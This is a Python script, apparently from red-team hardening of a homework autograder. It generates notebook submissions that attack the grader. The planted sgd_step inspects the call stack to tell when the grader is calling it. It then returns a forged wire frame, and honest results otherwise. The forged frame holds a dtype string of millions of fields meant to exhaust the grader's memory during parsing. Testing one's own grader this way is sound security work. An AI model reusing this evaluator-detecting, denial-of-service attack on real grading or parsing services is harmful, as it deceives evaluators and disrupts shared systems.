"""Round 5 forged value frames (after the round-4 hardening), hw3_sgd: the reference notebook whose
sgd_step, when the grader calls it directly, answers with a forged frame (the kit of attacks/round4/gen4.py).

    .venv/bin/python attacks/round5/gen5_wire.py      # attacks/round5/build/<case>/subs/ (+ reference, blank)
    .venv/bin/python attacks/round5/run5.py <case>    # grade with --jobs 1, peak RSS of the grader
"""
import json
import re
import shutil
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
SAMPLES = ROOT / "solutions" / "hw3_sgd" / "samples"
FORGE = re.search(r"FORGE = r'''(.*?)'''", (ROOT / "attacks" / "round4" / "gen4.py").read_text(), re.S).group(1)

# sgd_step forges only when the grader called it (a worker frame with the request `header` is above it);
# train's own calls get the honest step
HONEST_OR_FORGED = FORGE + r'''
def _called_by_grader():
    f = sys._getframe(2)
    while f is not None and "header" not in f.f_locals:
        f = f.f_back
    return f is not None and isinstance(f.f_locals["header"], dict) and "seq" in f.f_locals["header"]
def _frame3(tree, specs=(), body=b""):
    # (result, the 3 arguments as left, no keyword arguments)
    tree = {"t": "tuple", "v": [tree, {"t": "list", "v": [{"t": "lit", "v": None}] * 3}, {"t": "dict", "v": []}]}
    h = json.dumps({"tree": tree, "arrays": list(specs)}).encode()
    return b"NNW1" + len(h).to_bytes(4, "big") + h + body
def sgd_step(params, grads, lr):
    if _called_by_grader():
        return _forge(FRAME())
    return {k: params[k] - lr * grads[k] for k in params}
'''

CASES = {
    # one array description whose dtype string is a comma list of 3.9M one-letter types: np.dtype builds a
    # record dtype of 3.9M fields (about 220 bytes each) before from_wire sees `dtype.fields` and refuses it
    "dtype_fields": 'def FRAME():\n    return _frame3({"t": "lit", "v": 0}, [[",".join(["b"] * 3_900_000), [0]]])\n',
    # the same, smaller (2M fields): to see the growth
    "dtype_fields_2m": 'def FRAME():\n    return _frame3({"t": "lit", "v": 0}, [[",".join(["b"] * 2_000_000), [0]]])\n',
}


def main(names):
    base = json.loads((SAMPLES / "reference.ipynb").read_text())
    at = next(i for i, c in enumerate(base["cells"]) if "".join(c["source"]).lstrip().startswith("def sgd_step("))
    for case in names or CASES:
        subs = HERE / "build" / case / "subs"
        shutil.rmtree(subs, ignore_errors=True)
        subs.mkdir(parents=True)
        for honest in ("reference", "blank"):
            shutil.copy(SAMPLES / f"{honest}.ipynb", subs / f"{honest}.ipynb")
        nb = json.loads(json.dumps(base))
        nb["cells"].insert(at + 1, {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                                    "source": HONEST_OR_FORGED + CASES[case]})
        (subs / f"{case}.ipynb").write_text(json.dumps(nb, indent=1))
        print(subs)


if __name__ == "__main__":
    main(sys.argv[1:])
